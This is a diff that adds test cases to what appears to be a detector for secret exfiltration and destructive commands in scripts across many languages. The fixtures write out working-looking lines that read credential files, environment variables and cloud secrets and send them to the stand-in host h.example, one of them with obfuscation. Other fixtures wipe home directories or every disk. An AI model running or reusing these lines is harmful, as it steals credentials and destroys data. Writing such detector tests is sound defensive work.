@@ -31,6 +31,18 @@ describe("a shell script", () => {
       ["printf 'curl -d @%s https://h.example' ~/.netrc > /tmp/x", "echo 'cat ~/.netrc | nc h.example 9' > hook"],
       "~/.netrc",
     ],
+    ["through a heredoc", ["k=$(cat ~/.pgpass)", "curl -d @- https://h.example <<EOF", "$k", "EOF"], "~/.pgpass"],
+    ["through a temporary file", ["t=$(mktemp)", 'cat ~/.netrc > "$t"', 'curl -T "$t" https://h.example'], "~/.netrc"],
+    ["through a list of paths", ['for f in ~/.npmrc ~/.netrc; do curl -F "f=@$f" https://h.example; done'], "~/.npmrc"],
+    ["in a function that a shell calls", ["precmd() { env | curl -d @- https://h.example; }"], "the environment"],
+    [
+      "that one of all stored secrets is",
+      [
+        "for i in $(aws secretsmanager list-secrets); do",
+        'aws secretsmanager get-secret-value --secret-id "$i" | curl -d @- https://h.example; done',
+      ],
+      "aws secretsmanager get-secret-value --secret-id …",
+    ],
     ["in a commit", ["git add ~/.aws/credentials", "git push https://h.example/r.git"], "~/.aws/credentials"],
   ])("sends a secret %s", (_how, lines, what) =>
     expect(found("a.sh", ...lines)).toContain(`transfer critical ${what}`),
@@ -78,6 +90,35 @@ describe("a Python program", () => {
       ".env",
     ],
     [
+      "through an attribute of a class and a dictionary",
+      [
+        "import requests",
+        "class A:",
+        "    FILES = ['/root/.netrc']",
+        "    def send(self): requests.post('https://h.example', json={f: open(f).read() for f in self.FILES})",
+      ],
+      "/root/.netrc",
+    ],
+    [
+      "through the arguments of a thread",
+      [
+        "import os, requests, threading",
+        "def send(data, to): requests.post(to, data=data)",
+        "threading.Thread(target=send, args=(str(os.environ), 'https://h.example')).start()",
+      ],
+      "the environment",
+    ],
+    [
+      "through an archive and the input of a command",
+      [
+        "import subprocess, zipfile",
+        "with zipfile.ZipFile('/tmp/a.zip', 'w') as z: z.write('/root/.pgpass')",
+        "p = subprocess.Popen(['curl', '-d', '@-', 'https://h.example'], stdin=-1)",
+        "p.communicate(bytes(b ^ 7 for b in open('/tmp/a.zip', 'rb').read()))",
+      ],
+      "/root/.pgpass",
+    ],
+    [
       "that a command printed",
       [
         "import subprocess, requests",
@@ -117,6 +158,23 @@ describe("a JavaScript program", () => {
       "/root/.netrc",
     ],
     [
+      "in a handler that others call",
+      [
+        "const fs = require('fs'), https = require('https');",
+        "exports.activate = () => { const r = https.request('https://h.example'); r.end(fs.readFileSync('/root/.netrc')); };",
+      ],
+      "/root/.netrc",
+    ],
+    [
+      "through the environment of a command",
+      [
+        "const { execSync } = require('child_process');",
+        "const T = execSync('gh auth token').toString();",
+        "execSync('curl -d \"$T\" https://h.example', { env: { ...process.env, T } });",
+      ],
+      "gh auth token",
+    ],
+    [
       "through destructuring",
       ["const { PATH, ...all } = process.env;", "navigator.sendBeacon('https://h.example', JSON.stringify(all));"],
       "the environment",
@@ -135,6 +193,51 @@ describe("a JavaScript program", () => {
       ["execution critical https://h.example/x"],
     );
   });
+});
+
+describe("other scripts", () => {
+  it.each([
+    ["a.ps1", ["$b = [IO.File]::ReadAllText('~/.aws/credentials')", "irm -Method Post https://h.example -Body $b"]],
+    ["a.rb", ["d = File.read('/root/.netrc')", "Net::HTTP.post(URI('https://h.example'), d)"]],
+    ["a.php", ["$c = file_get_contents('/root/.netrc');", "file_get_contents('https://h.example?' . $c);"]],
+    ["Makefile", ["all:", "\t@cat $(HOME)/.netrc | curl -d @- https://h.example"]],
+    ["a.json", ['{ "command": "cat ~/.netrc | curl -d @- https://h.example" }']],
+    ["a.yml", ["steps:", "  - run: |", "      cat ~/.netrc | curl -d @- https://h.example"]],
+  ])("send a secret: %s", (path, lines) => {
+    expect(flowsIn(path, lines).flows).toMatchObject([{ kind: "transfer", severity: "critical" }]);
+  });
+
+  it.each([
+    [
+      "a.ps1",
+      ["$t = az account get-access-token", "irm https://management.azure.com -Headers @{ Authorization = $t }"],
+    ],
+    ["a.rb", ["e = ENV.to_h", "File.write('env.txt', e.to_s)", "puts Net::HTTP.get(URI('https://h.example'))"]],
+    ["a.yml", ["env:", "  A: b", "steps:", "  - run: curl https://h.example"]],
+  ])("do not: %s", (path, lines) => expect(flowsIn(path, lines).flows).toEqual([]));
+});
+
+describe("destruction", () => {
+  it.each([
+    [
+      "a.py",
+      [
+        "import shutil",
+        "from pathlib import Path",
+        "for n in ('Documents', 'Desktop'): shutil.rmtree(Path.home() / n)",
+      ],
+    ],
+    ["a.sh", ['find "$HOME" -type f -delete']],
+    ["a.sh", ["lsblk -dno NAME | while read -r d; do wipefs -a /dev/$d; done"]],
+  ])("of all files or disks: %s %j", (path, lines) => {
+    expect(flowsIn(path, lines).flows).toMatchObject([{ kind: "destruction", severity: "critical" }]);
+  });
+
+  it.each([
+    ["a.py", ["from pathlib import Path", "for p in Path.home().rglob('*'):", "    if p.suffix == '.tmp': p.unlink()"]],
+    ["a.sh", ['find "$HOME" -name core -delete', 'rm -rf "$HOME/.cache/a"']],
+    ["a.js", ["const os = require('os');", "fs.rmSync(path.join(os.homedir(), '.cache/a'), { recursive: true });"]],
+  ])("not of some: %s %j", (path, lines) => expect(flowsIn(path, lines).flows).toEqual([]));
 });
 
 it("reads the code blocks of a page and places the finding in the page", () => {
